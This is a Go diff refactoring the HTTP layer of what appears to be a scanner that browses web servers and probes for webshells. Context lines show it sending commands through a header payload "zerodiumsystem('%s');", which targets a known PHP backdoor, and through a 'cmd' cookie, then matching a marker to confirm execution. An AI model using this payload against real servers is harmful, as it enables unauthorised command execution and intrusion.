@@ -5,8 +5,6 @@ import (
 	"context"
 	"encoding/json"
 	"fmt"
-	"io"
-	"net"
 	"net/http"
 	"net/url"
 	"path"
@@ -19,9 +17,8 @@ import (
 // Bounds of what is asked of one web server in one call.
 const (
 	browseLimit = 20 * time.Second
-	maxPages    = 32       // paths and forms besides the first page
-	maxMissed   = 3        // requests without an answer, until it is left alone
-	maxAnswer   = 64 << 10 // bytes of an answer that are read
+	maxPages    = 32 // paths and forms besides the first page
+	maxMissed   = 3  // requests without an answer, until it is left alone
 )
 
 // parameters are what shells on web servers call the command that they take.
@@ -87,8 +84,8 @@ type browse struct {
 	ctx    context.Context
 	cancel context.CancelFunc
 	v      *Visitor
-	client *http.Client
 	base   *url.URL
+	line   *line    // nil: none is open
 	links  []string // that answers led to
 	forms  []form
 	missed int
@@ -102,29 +99,14 @@ func newBrowse(ctx context.Context, v *Visitor) *browse {
 	if v.met == webTLS {
 		scheme = "https"
 	}
-	dial := func(context.Context, string, string) (net.Conn, error) { // what it is given ends when it has dialled
-		c, err := v.open(ctx, v.met == webTLS)
-		if err != nil {
-			return nil, err
-		}
-		return c, nil
-	}
 	return &browse{
-		ctx: ctx, cancel: cancel, v: v, obeyed: regexp.MustCompile(regexp.QuoteMeta(v.Word) + `P\d+N\d+X1337`), base: &url.URL{Scheme: scheme, Host: v.host(), Path: "/"},
-		client: &http.Client{
-			Transport: &http.Transport{
-				DialContext: dial, DialTLSContext: dial,
-				// Some serve only one at a time.
-				MaxConnsPerHost: 1, ResponseHeaderTimeout: answerWait, MaxResponseHeaderBytes: 32 << 10, DisableCompression: true,
-			},
-			CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse },
-			Timeout:       2 * answerWait,
-		},
+		ctx: ctx, cancel: cancel, v: v, obeyed: regexp.MustCompile(regexp.QuoteMeta(v.Word) + `P\d+N\d+X1337`),
+		base: &url.URL{Scheme: scheme, Host: v.host(), Path: "/"},
 	}
 }
 
 func (b *browse) end() {
-	b.client.CloseIdleConnections()
+	b.hangUp()
 	b.cancel()
 }
 
@@ -266,7 +248,7 @@ func (b *browse) ask(method, at string, body []byte, kind string) (status int) {
 	if err != nil || to.Host != b.base.Host {
 		return 0
 	}
-	req, err := http.NewRequestWithContext(b.ctx, method, to.String(), bytes.NewReader(body))
+	req, err := http.NewRequest(method, to.String(), bytes.NewReader(body))
 	if err != nil {
 		return 0
 	}
@@ -283,14 +265,12 @@ func (b *browse) ask(method, at string, body []byte, kind string) (status int) {
 		req.Header.Set(tamperedPHP, fmt.Sprintf("zerodiumsystem('%s');", command))
 		req.AddCookie(&http.Cookie{Name: "cmd", Value: url.PathEscape(command)})
 	}
-	resp, err := b.client.Do(req)
+	resp, answer, err := b.exchange(req, body)
 	if err != nil {
 		b.missed++
 		b.v.Log.Debug("no answer", "port", b.v.Port, "path", to.Path, "error", err)
 		return 0
 	}
-	defer resp.Body.Close()
-	answer, _ := io.ReadAll(io.LimitReader(resp.Body, maxAnswer)) // what there is
 	b.proved = b.proved || b.obeyed.Match(answer)
 	links, forms := reveal(to, resp.Header, answer)
 	b.links, b.forms = append(b.links, links...), append(b.forms, forms...)
